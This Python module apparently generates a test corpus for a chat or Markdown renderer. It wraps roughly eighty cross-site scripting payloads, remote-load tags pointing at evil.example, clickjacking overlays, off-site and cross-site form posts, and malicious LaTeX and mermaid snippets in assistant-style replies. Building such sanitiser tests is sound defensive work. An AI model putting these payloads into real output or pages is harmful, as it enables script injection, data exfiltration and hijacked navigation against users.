"""Texts that try to run, load, submit or navigate: vectors in wrappers, each with a number of its own."""

HOST = "evil.example"
RUN = "window.top.pwned&&window.top.pwned({n})"

SCRIPTS = (
    "<script>" + RUN + "</script>",
    "<script src='//" + HOST + "/{n}.js'></script>",
    "<script type=module>import '//" + HOST + "/{n}.mjs'</script>",
    "<scr<script>ipt>" + RUN + "</scr</script>ipt>",
    "<img src=x onerror=" + RUN + ">",
    "<img src='nothing-{n}' onerror='" + RUN + "'>",
    "<svg onload=" + RUN + ">",
    "<svg><script>" + RUN + "</script></svg>",
    "<svg><animate onbegin=" + RUN + " attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:" + RUN + "'><text y=20>{n}</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror="
    + RUN
    + "></style></mglyph></table></mtext></math>",
    "<details open ontoggle=" + RUN + ">d</details>",
    "<video><source onerror=" + RUN + "></video>",
    "<audio src=x onerror=" + RUN + ">",
    "<body onload=" + RUN + ">",
    "<input autofocus onfocus=" + RUN + ">",
    "<select autofocus onfocus=" + RUN + "></select>",
    "<marquee onstart=" + RUN + ">m</marquee>",
    "<iframe srcdoc='<script>" + RUN + "</script>'></iframe>",
    "<iframe src='javascript:" + RUN + "'></iframe>",
    "<object data='javascript:" + RUN + "'></object>",
    "<embed src='data:text/html,<script>" + RUN + "</script>'>",
    "<a href='javascript:" + RUN + "' autofocus>a</a>",
    "<form><button formaction='javascript:" + RUN + "'>b</button></form>",
    "<template><script>" + RUN + "</script></template>",
    "<div style='animation-name:x' onanimationstart=" + RUN + ">d</div>",
    "<noscript><p title='</noscript><img src=x onerror=" + RUN + ">'></noscript>",
    "<textarea></textarea><img src=x onerror=" + RUN + ">",
    "{{{{constructor.constructor('" + RUN + "')()}}}}",
    "${{" + RUN + "}}",
)
LOADS = (
    "![x](http://" + HOST + "/{n}.png)",
    "![x](https://" + HOST + "/{n}.png)",
    "![x](//" + HOST + "/{n}.png)",
    "![x][r]\n\n[r]: http://" + HOST + "/{n}.png",
    "<img src=http://" + HOST + "/{n}.png>",
    "<img srcset='http://" + HOST + "/{n}.png 1x'>",
    "<picture><source srcset=http://" + HOST + "/{n}.png><img src=x></picture>",
    "<video src=http://" + HOST + "/{n}.mp4 autoplay poster=http://" + HOST + "/{n}.png></video>",
    "<audio src=http://" + HOST + "/{n}.mp3 autoplay></audio>",
    "<link rel=stylesheet href=http://" + HOST + "/{n}.css>",
    "<link rel=preload as=image href=http://" + HOST + "/{n}.png>",
    "<link rel=prefetch href=http://" + HOST + "/{n}>",
    "<style>@import url(http://" + HOST + "/{n}.css);</style>",
    "<style>@font-face{{font-family:x;src:url(http://" + HOST + "/{n}.woff)}}*{{font-family:x}}</style>",
    "<p style='background:url(http://" + HOST + "/{n}.png)'>p</p>",
    "<p style='list-style-image:url(http://" + HOST + "/{n}.png);display:list-item'>p</p>",
    "<iframe src=http://" + HOST + "/{n}></iframe>",
    "<object data=http://" + HOST + "/{n}></object>",
    "<embed src=http://" + HOST + "/{n}>",
    "<svg><image href=http://" + HOST + "/{n}.png /></svg>",
    "<svg><use href='http://" + HOST + "/{n}.svg#x'/></svg>",
    "<svg><filter><feImage href=http://" + HOST + "/{n}.png /></filter></svg>",
    "<track src=http://" + HOST + "/{n}.vtt>",
    "<table background=http://" + HOST + "/{n}.png><tr><td>t</table>",
    "<math><mi xlink:href=http://" + HOST + "/{n}>x</mi></math>",
)
MOVES = (
    "<meta http-equiv=refresh content='0;url=http://" + HOST + "/{n}'>",
    "<base href=http://" + HOST + "/>",
    "<form action=http://" + HOST + "/{n}><input name=q value=secret><button autofocus>go</button></form>",
    "<form action=/gradio_api/queue/join method=post enctype=text/plain><input name='{{}}'><button>ok</form>",
    "<form action=/recovery/make method=post><button>Click here</button></form>",
    "<isindex action=http://" + HOST + "/{n}>",
    "<a href=http://" + HOST + "/{n} style='position:fixed;inset:0;z-index:99999'>everywhere</a>",
    "<div style='position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999'>over</div>",
    "<a href=http://" + HOST + " ping=http://" + HOST + "/{n}>ping</a>",
    "[link](javascript:" + RUN + ")",
    "[link](data:text/html,<script>" + RUN + "</script>)",
    "[link](vbscript:x)",
    "<http://" + HOST + "/{n}>",
    "<dialog open style='position:fixed;inset:0'>dialog</dialog>",
    "<portal src=http://" + HOST + "/{n}></portal>",
)
FORMULAS = (
    "$\\href{{javascript:" + RUN + "}}{{x}}$",
    "$\\url{{javascript:" + RUN + "}}$",
    "$\\includegraphics{{http://" + HOST + "/{n}.png}}$",
    "$$\\htmlData{{x=1}}{{\\htmlStyle{{background:url(http://" + HOST + "/{n})}}{{x}}}}$$",
    "$$\\def\\x{{\\x\\x}}\\x$$",
    "\\(\\text{{<img src=x onerror=" + RUN + ">}}\\)",
    "\\[\\unicode{{x3c}}script\\unicode{{x3e}}\\]",
    '```mermaid\ngraph TD; A["<img src=x onerror='
    + RUN
    + '>"]-->B; click A href "javascript:'
    + RUN
    + '"\n```',
    "```html\n<script>" + RUN + "</script>\n```",
    "`<img src=x onerror=" + RUN + ">`",
)
VECTORS = SCRIPTS + LOADS + MOVES + FORMULAS
WRAPPERS = (
    "{}",
    "Certainly! Here it is:\n\n{}\n\nIs there anything else?",
    "> {}\n\n- one\n- {}",
    "| a | b |\n|---|---|\n| {} | x |",
    "<div>\n\n{}\n\n</div>",
)


def corpus():
    """Every vector in every wrapper, with a number of its own."""
    return [
        wrapper.replace("{}", vector.format(n=index * len(WRAPPERS) + place))
        for index, vector in enumerate(VECTORS)
        for place, wrapper in enumerate(WRAPPERS)
    ]
